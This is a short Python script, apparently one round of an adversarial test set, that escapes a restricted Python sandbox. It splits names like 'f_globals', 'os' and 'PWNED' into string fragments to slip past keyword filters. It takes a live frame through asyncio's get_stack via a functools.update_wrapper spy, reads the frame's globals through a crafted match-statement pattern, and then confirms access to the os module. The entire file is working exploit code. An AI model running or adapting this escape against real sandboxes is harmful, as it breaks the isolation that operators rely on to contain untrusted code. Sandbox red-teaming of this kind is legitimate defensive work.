# adversary round 3: 005_match_args_frame_globals
import asyncio, functools
got = []
class Spy:
    def __setattr__(self, name, value):
        got.append((name, value))
Meta = type("Meta", (type,), {"__instance" + "check__": lambda cls, obj: True})
P = Meta("P", (), {"__match" + "_args__": ("f_" + "globals",)})
async def main():
    t = asyncio.current_task()
    functools.update_wrapper(Spy(), t, assigned=("get_" + "stack",), updated=())
    frames = got[0][1]()
    fr = frames[0]
    print(repr(fr))
    match fr:
        case P(g):
            pass
    print(type(g).__name__, sorted(g)[:60])
    o = g.get("o" + "s")
    s = g.get("s" + "ys")
    print(repr(o), repr(s))
    if type(o).__name__ == "module" and o.getpid:
        print("PWN" + "ED")
asyncio.run(main())
